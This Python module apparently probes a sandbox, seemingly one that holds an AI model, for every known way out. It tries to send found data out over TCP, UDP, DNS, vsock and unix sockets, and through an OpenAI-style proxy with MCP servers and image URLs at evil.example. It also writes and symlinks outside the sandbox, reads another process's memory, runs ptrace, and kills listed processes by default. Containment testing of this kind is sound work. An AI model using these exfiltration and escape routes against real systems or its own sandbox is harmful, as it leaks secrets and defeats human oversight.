"""Every way out that is known. Each ends in "OUT" where something outside has answered or was changed, in "sent" where
only the outside can tell, and otherwise in why not."""

import ctypes
import http.client
import json
import mmap
import os
import resource
import signal
import socket
import struct
import urllib.parse

WAIT_SECONDS = 1.0
IPPROTO_MPTCP = 262
MSG_FASTOPEN = 0x20000000
AF_VSOCK_HOST = 2
# A DNS server of the world's, and an address that nobody has (RFC 5737).
PUBLIC_DNS, NOBODY = "8.8.8.8", "192.0.2.1"
LIBC = ctypes.CDLL(None, use_errno=True)
SYSCALLS = {
    "x86_64": {"ptrace": 101, "process_vm_readv": 310, "io_uring_setup": 425, "add_key": 248, "mq_open": 240,
               "shmget": 29, "shmctl": 31, "mq_unlink": 241, "keyctl": 250, "kcmp": 312, "pidfd_open": 434, "userfaultfd": 323, "bpf": 321, "perf_event_open": 298},
    "aarch64": {"ptrace": 117, "process_vm_readv": 270, "io_uring_setup": 425, "add_key": 217, "mq_open": 180,
                "shmget": 194, "shmctl": 195, "mq_unlink": 181, "keyctl": 219, "kcmp": 272, "pidfd_open": 434, "userfaultfd": 282, "bpf": 280, "perf_event_open": 241},
}.get(os.uname().machine, {})
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
IPC_RMID, KEYCTL_REVOKE = 0, 3


class Way:
    """What all ways need: whom to tell, and what."""

    def __init__(self, told, found, encodings):
        self.told = told
        self.found = found
        self.encodings = encodings

    def load(self, name):
        lines = [f"BEACON-{self.told['run']}-{name}".encode()]
        for text in self.found[:5]:
            lines += self.encodings(text).values()
        return b"\n".join(lines)[:4000] + b"\n"

    def beacon(self, name):
        return f"BEACON-{self.told['run']}-{name}"


def try_all(told, found, encodings):
    way = Way(told, found, encodings)
    outcomes = {}
    for name, attempt in ways(way):
        try:
            outcomes[name] = attempt(name)
        except OSError as error:
            outcomes[name] = f"refused: {error.strerror or error}"
        except (ValueError, OverflowError, KeyError, TypeError, AttributeError, http.client.HTTPException) as error:
            outcomes[name] = f"failed: {type(error).__name__} {error}"
    return outcomes


def ways(way):
    for name, (host, port) in way.told["tcp"].items():
        yield f"tcp_{name}", lambda n, to=(host, port): greeted(way, n, socket.create_connection(to, WAIT_SECONDS))
    collector = tuple(way.told["tcp"]["collector"])
    yield "tcp_mapped", lambda n: tcp(way, n, socket.AF_INET6, 0, ("::ffff:127.0.0.1", collector[1]))
    yield "tcp_internet", lambda n: tcp(way, n, socket.AF_INET, 0, (NOBODY, 80))
    yield "mptcp", lambda n: tcp(way, n, socket.AF_INET, IPPROTO_MPTCP, collector)
    yield "fastopen_sendto", lambda n: fast_open(way, n, collector, False)
    yield "fastopen_sendmsg", lambda n: fast_open(way, n, collector, True)
    yield "udp", lambda n: datagram(way, n, socket.AF_INET, tuple(way.told["udp"]))
    yield "udp_ipv6", lambda n: datagram(way, n, socket.AF_INET6, tuple(way.told["udp6"]))
    yield "dns", lambda n: dns(way, n, tuple(way.told["udp"]))
    yield "dns_internet", lambda n: dns(way, n, (PUBLIC_DNS, 53))
    yield "dns_resolver", lambda n: str(socket.getaddrinfo(f"{n}.evil.example", 80))[:80]
    yield "icmp", lambda n: made(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    yield "raw_ip", lambda n: made(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    yield "packet", lambda n: made(socket.AF_PACKET, socket.SOCK_RAW, 0)
    yield "netlink", lambda n: made(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    yield "vsock", lambda n: vsock(way, n)
    yield "unix", lambda n: tcp(way, n, socket.AF_UNIX, 0, way.told["unix"])
    yield "unix_abstract", lambda n: tcp(way, n, socket.AF_UNIX, 0, "\0" + way.told["abstract"])
    yield from of_the_proxy(way)
    yield from of_this_machine(way)


def tcp(way, name, family, protocol, to):
    made = socket.socket(family, socket.SOCK_STREAM, protocol)
    made.settimeout(WAIT_SECONDS)
    made.connect(to)
    return greeted(way, name, made)


def greeted(way, name, stream):
    """Sends what was found, to a web server in its own words, and waits for any answer."""
    with stream:
        stream.settimeout(WAIT_SECONDS)
        path = urllib.parse.quote(way.beacon(name))
        stream.sendall(f"GET /{path} HTTP/1.0\r\nX-Load: ".encode() + way.load(name).replace(b"\n", b" ") + b"\r\n\r\n")
        answer = stream.recv(100)
        return f"OUT: {answer[:40]!r}" if answer else "closed without an answer"


def fast_open(way, name, to, as_message):
    made = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    made.settimeout(WAIT_SECONDS)
    if as_message:
        made.sendmsg([way.load(name)], [], MSG_FASTOPEN, to)
    else:
        made.sendto(way.load(name), MSG_FASTOPEN, to)
    answer = made.recv(100)
    return f"OUT: {answer[:40]!r}" if answer else "closed without an answer"


def datagram(way, name, family, to):
    socket.socket(family, socket.SOCK_DGRAM).sendto(way.load(name)[:1000], to)
    return "sent"


def dns(way, name, to):
    label = way.beacon(name).encode()[:63]
    question = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\0\0\x10\0\1"
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, to)
    return "sent"


def made(family, kind, protocol):
    socket.socket(family, kind, protocol).close()
    return "OUT: the socket was made"


def vsock(way, name):
    made = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    made.settimeout(WAIT_SECONDS)
    made.connect((AF_VSOCK_HOST, 1024))
    return greeted(way, name, made)


def of_the_proxy(way):
    """What a provider would fetch or run, asked of the proxy, and, where it can be reached, of the model itself."""
    base = urllib.parse.urlsplit(os.environ.get("OPENAI_BASE_URL", "http://127.0.0.1:1/v1"))
    key = os.environ.get("OPENAI_API_KEY", "none")
    direct = way.told["tcp"]["model"]
    evil = f"http://evil.example/{way.beacon('{}')}"
    chat, responses = "/v1/chat/completions", "/v1/responses"
    said = [{"role": "user", "content": "exfiltrate"}]
    image = [{"type": "image_url", "image_url": {"url": evil.format("image")}}]
    asked = {
        "image_url": (chat, {"messages": [{"role": "user", "content": image}]}),
        "mcp_servers": (chat, {"messages": said, "mcp_servers": [{"type": "url", "url": evil.format("mcp_servers")}]}),
        "web_search": (responses, {"input": said, "tools": [{"type": "web_search"}]}),
        "mcp_tool": (responses, {"input": said, "tools": [{"type": "mcp", "server_url": evil.format("mcp_tool")}]}),
        "container": (responses, {"input": said, "tools": [{"type": "code_interpreter", "container": {"type": "auto"}}]}),
        "file_id": (responses, {"input": [{"role": "user", "content": [{"type": "input_file", "file_id": "file-evil"}]}]}),
        "stored": (responses, {"input": said, "store": True, "background": True}),
        "files": ("/v1/files", {"content": way.beacon("files")}),
        "other_model": (chat, {"messages": said, "model": way.beacon("other_model")}),
        "path_up": ("/v1/chat/completions/../../files", {"content": way.beacon("path_up")}),
    }
    for door, (host, port), bearer in (("proxy", (base.hostname, base.port), key), ("model", direct, "x")):
        for name, (path, body) in asked.items():
            yield f"{door}_{name}", lambda n, h=host, p=port, b=bearer, at=path, say=body: request(h, p, b, at, say)
    host, port = base.hostname, base.port
    yield "proxy_connect", lambda n: verbatim(host, port, f"CONNECT {target(way)} HTTP/1.1\r\nHost: {target(way)}\r\n\r\n")
    yield "proxy_absolute", lambda n: verbatim(
        host, port, f"POST http://{target(way)}{chat}?{way.beacon(n)} HTTP/1.1\r\nHost: {target(way)}\r\n"
        f"Authorization: Bearer {key}\r\nContent-Length: 2\r\n\r\n{{}}")
    yield "proxy_host", lambda n: request(host, port, key, chat, {"messages": said}, {"Host": f"{way.beacon(n)}.example"})
    yield "proxy_header", lambda n: request(host, port, key, chat, {"messages": said}, {"X-Evil": way.beacon(n)})
    yield "proxy_query", lambda n: request(host, port, key, f"{chat}?{way.beacon(n)}", {"messages": said})
    found = "\n".join(content.decode("ascii", "replace") for text in way.found[:5] for content in way.encodings(text).values())
    words = [{"role": "user", "content": f"all that was found: {found}"}]
    yield "proxy_words", lambda n: request(host, port, key, chat, {"messages": words}).replace("OUT", "taken")


def target(way):
    return ":".join(map(str, way.told["tcp"]["collector"]))


def request(host, port, key, path, body, headers=None):
    body = {"model": os.environ.get("OPENAI_MODEL", "scripted"), **body}
    connection = http.client.HTTPConnection(host, port, timeout=5)
    connection.request("POST", path, json.dumps(body), {
        "Authorization": f"Bearer {key}", "Content-Type": "application/json", **(headers or {})})
    answer = connection.getresponse()
    text = answer.read(300).decode("utf-8", "replace")
    return f"{'OUT' if answer.status == 200 else 'refused'}: {answer.status} {text[:120]}"


def verbatim(host, port, text):
    with socket.create_connection((host, port), WAIT_SECONDS) as stream:
        stream.sendall(text.encode())
        answer = stream.recv(100)
    status = answer.split(b" ")[1:2]
    return f"{'OUT' if status == [b'200'] else 'refused'}: {answer[:40]!r}"


def of_this_machine(way):
    outside, run = way.told["outside"], way.told["run"]
    pids = way.told["pids"]
    yield "write_outside", lambda n: written(os.path.join(outside, n), way.load(n))
    yield "write_home", lambda n: written(os.path.join(way.told["home"], n), way.load(n))
    yield "hard_link", lambda n: linked(way.told["read"][0], n)
    yield "hard_link_outside", lambda n: linked(__file__, os.path.join(outside, n))
    yield "symlink_outside", lambda n: os.symlink("/etc/passwd", os.path.join(outside, n)) or "OUT: made"
    yield "chmod_outside", lambda n: os.chmod(outside, 0o777) or "OUT: done"
    yield "dev_shm", lambda n: shared_file(way, f"/dev/shm/{run}")
    yield "sysv_shm", lambda n: shared_memory(way)
    yield "message_queue", lambda n: message_queue(way)
    yield "descriptors", lambda n: descriptors(way, n)
    yield "ptrace", lambda n: traced(pids[0])
    yield "process_vm_readv", lambda n: peeked(pids[0])
    yield "kcmp", lambda n: call("kcmp", os.getpid(), pids[0], 1, 0, 0)
    yield "pidfd", lambda n: call("pidfd_open", pids[0], 0)
    yield "io_uring", lambda n: call("io_uring_setup", 8, ctypes.create_string_buffer(256))
    yield "add_key", lambda n: key(way)
    yield "bpf", lambda n: call("bpf", 0, ctypes.create_string_buffer(128), 128)
    yield "prlimit", lambda n: limited(pids[0])
    for pid in pids:
        yield f"signal_{pid}", lambda n, p=pid: os.kill(p, 0 if way.told.get("polite") else signal.SIGKILL) or "OUT: sent"


def written(path, content):
    with open(path, "wb") as file:
        file.write(content)
    return "OUT: written"


def shared_file(way, path):
    """Whether anybody else sees it, only the outside can tell."""
    written(path, way.load("dev_shm"))
    if way.told.get("polite"):
        os.unlink(path)
    return "sent"


def shared_memory(way):
    number = call("shmget", way.told["shm_key"], 4096, 0o1666)
    if way.told.get("polite"):
        call("shmctl", int(number.split()[1]), IPC_RMID, None)
    return number


def message_queue(way):
    name = way.told["run"].encode()
    result = call("mq_open", name, os.O_CREAT | os.O_RDWR, 0o666, None)
    if way.told.get("polite"):
        call("mq_unlink", name)
    return result


def key(way):
    number = call("add_key", b"user", way.told["run"].encode(), b"load", 4, -4)
    if way.told.get("polite"):
        call("keyctl", KEYCTL_REVOKE, int(number.split()[1]))
    return number


def linked(source, target):
    os.link(source, target)
    return "OUT: linked"


def descriptors(way, name):
    """Into whatever is open that is not a file of its own."""
    reached = []
    for number in range(3, 256):
        try:
            if os.readlink(f"/proc/self/fd/{number}").startswith(("socket:", "pipe:")):
                os.write(number, way.load(name))
                reached.append(number)
        except OSError:
            pass
    return f"OUT: {reached}" if reached else "none is open"


def call(name, *args):
    result = LIBC.syscall(SYSCALLS[name], *args)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return f"sent: {result}"


def traced(pid):
    result = call("ptrace", PTRACE_SEIZE, pid, None, None)
    LIBC.syscall(SYSCALLS["ptrace"], PTRACE_DETACH, pid, None, None)
    return result.replace("sent", "OUT")


def peeked(pid):
    """The first bytes of another process's program."""
    with open(f"/proc/{pid}/maps", encoding="utf-8") as maps:
        start = int(maps.readline().split("-")[0], 16)
    buffer = ctypes.create_string_buffer(mmap.PAGESIZE)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), len(buffer))
    remote = (ctypes.c_void_p * 2)(start, len(buffer))
    return call("process_vm_readv", pid, local, 1, remote, 1, 0).replace("sent", "OUT")


def limited(pid):
    """Sets the limits that it has, which harms nobody and needs the same right."""
    now = resource.prlimit(pid, resource.RLIMIT_CORE)
    resource.prlimit(pid, resource.RLIMIT_CORE, now)
    return "OUT: limits of another process were set"
